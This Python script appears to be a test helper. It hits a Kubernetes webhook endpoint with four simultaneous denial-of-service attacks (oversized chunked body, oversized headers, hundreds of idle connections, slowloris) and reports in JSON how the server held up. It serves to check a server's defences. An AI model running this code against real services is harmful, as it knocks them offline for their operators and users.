#!/usr/bin/env python3
"""Attacks one webhook endpoint the way any pod in the cluster could, and reports what happened.

    webhook_attack.py HOST:PORT [--plain] [--seconds N] [--idle N] [--slowloris N]
                      [--body-mib N] [--header-kib N]

Four attacks at once, over TLS without a client certificate (the attacker has none), or over plain
HTTP with --plain:
  chunked    one POST with Transfer-Encoding: chunked streaming --body-mib MiB (default 200)
  headers    one request with --header-kib KiB of header lines (default 64)
  idle       --idle TCP connections (default 500) that send nothing at all (not even a TLS
             ClientHello: the cheapest way to hold a server's connection slots)
  slowloris  --slowloris connections (default 50) that send one byte of a request line a second

It prints one JSON object: the status line each request got (or how the connection ended), how many
bytes of the body the server let through before it stopped reading, and how many idle and slow
connections the server closed within --seconds (default 40). It never fails on the server's
answers: the calling test decides what is acceptable. Exit status 2 = bad arguments.
"""
import argparse
import json
import socket
import ssl
import sys
import threading
import time


def tls_context():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the attacker does not care who answers
    return ctx


PLAIN = False


def connect(host, port, timeout=10.0):
    raw = socket.create_connection((host, port), timeout=timeout)
    if PLAIN:
        return raw
    try:
        return tls_context().wrap_socket(raw, server_hostname=host)
    except (OSError, ssl.SSLError):
        raw.close()
        raise


def status_line(sock, timeout=10.0):
    sock.settimeout(timeout)
    data = b""
    try:
        while b"\r\n" not in data and len(data) < 4096:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
    except (OSError, ssl.SSLError) as e:
        return "no answer (%s)" % type(e).__name__
    if not data:
        return "closed without an answer"
    return data.split(b"\r\n", 1)[0].decode("latin-1")


def chunked(host, port, body_mib, out):
    head = (
        "POST /validate-debugsession HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n"
        "Transfer-Encoding: chunked\r\n\r\n" % host
    ).encode()
    piece = b"[" * (1 << 20)
    frame = b"100000\r\n" + piece + b"\r\n"
    sent = 0
    try:
        sock = connect(host, port)
    except (OSError, ssl.SSLError) as e:
        out["chunked"] = {"status": "refused (%s)" % e, "bodyBytesSent": 0}
        return
    try:
        sock.settimeout(15)
        sock.sendall(head)
        for _ in range(body_mib):
            sock.sendall(frame)
            sent += len(piece)
        sock.sendall(b"0\r\n\r\n")
    except (OSError, ssl.SSLError):
        pass  # the server stopped reading: what we want to see
    out["chunked"] = {"status": status_line(sock), "bodyBytesSent": sent}
    sock.close()


def headers(host, port, header_kib, out):
    lines = "".join("X-Filler-%d: %s\r\n" % (i, "a" * 1000) for i in range(header_kib))
    request = ("GET /healthz HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (host, lines)).encode()
    try:
        sock = connect(host, port)
    except (OSError, ssl.SSLError) as e:
        out["headers"] = {"status": "refused (%s)" % e}
        return
    try:
        sock.settimeout(15)
        sock.sendall(request)
    except (OSError, ssl.SSLError):
        pass
    out["headers"] = {"status": status_line(sock), "headerBytes": len(request)}
    sock.close()


def closed_by_peer(sock):
    """True when the server has closed the connection (EOF or reset), without blocking."""
    try:
        sock.setblocking(False)
        data = sock.recv(1)
        return data == b""
    except (ssl.SSLWantReadError, BlockingIOError):
        return False
    except (OSError, ssl.SSLError):
        return True


def idle(host, port, count, seconds, out):
    socks, refused = [], 0
    for _ in range(count):
        try:
            socks.append(socket.create_connection((host, port), timeout=5))
        except (OSError, ssl.SSLError):
            refused += 1
    time.sleep(seconds)
    closed = sum(1 for s in socks if closed_by_peer(s))
    for s in socks:
        s.close()
    out["idle"] = {"opened": len(socks), "refused": refused, "closedByServer": closed}


def slowloris(host, port, count, seconds, out):
    socks, refused = [], 0
    for _ in range(count):
        try:
            socks.append(connect(host, port, timeout=5))
        except (OSError, ssl.SSLError):
            refused += 1
    request = b"POST /validate-debugsession HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10000
    alive = list(socks)
    cut = 0
    deadline = time.time() + seconds
    i = 0
    while time.time() < deadline and alive:
        still = []
        for s in alive:
            try:
                s.settimeout(2)
                s.sendall(request[i % len(request) : i % len(request) + 1])
                still.append(s)
            except (OSError, ssl.SSLError):
                cut += 1
        alive = still
        i += 1
        time.sleep(1)
    cut += sum(1 for s in alive if closed_by_peer(s))
    for s in socks:
        s.close()
    out["slowloris"] = {"opened": len(socks), "refusedOrFailedHandshake": refused, "cutByServer": cut}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("address")
    parser.add_argument("--plain", action="store_true")
    parser.add_argument("--seconds", type=float, default=40)
    parser.add_argument("--idle", type=int, default=500)
    parser.add_argument("--slowloris", type=int, default=50)
    parser.add_argument("--body-mib", type=int, default=200)
    parser.add_argument("--header-kib", type=int, default=64)
    args = parser.parse_args()
    host, _, port = args.address.rpartition(":")
    if not host or not port.isdigit():
        print("webhook_attack: address must be HOST:PORT", file=sys.stderr)
        sys.exit(2)
    port = int(port)
    global PLAIN
    PLAIN = args.plain
    out = {}
    threads = [
        threading.Thread(target=idle, args=(host, port, args.idle, args.seconds, out)),
        threading.Thread(target=slowloris, args=(host, port, args.slowloris, args.seconds, out)),
        threading.Thread(target=chunked, args=(host, port, args.body_mib, out)),
        threading.Thread(target=headers, args=(host, port, args.header_kib, out)),
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    json.dump(out, sys.stdout, sort_keys=True)
    print()


if __name__ == "__main__":
    main()
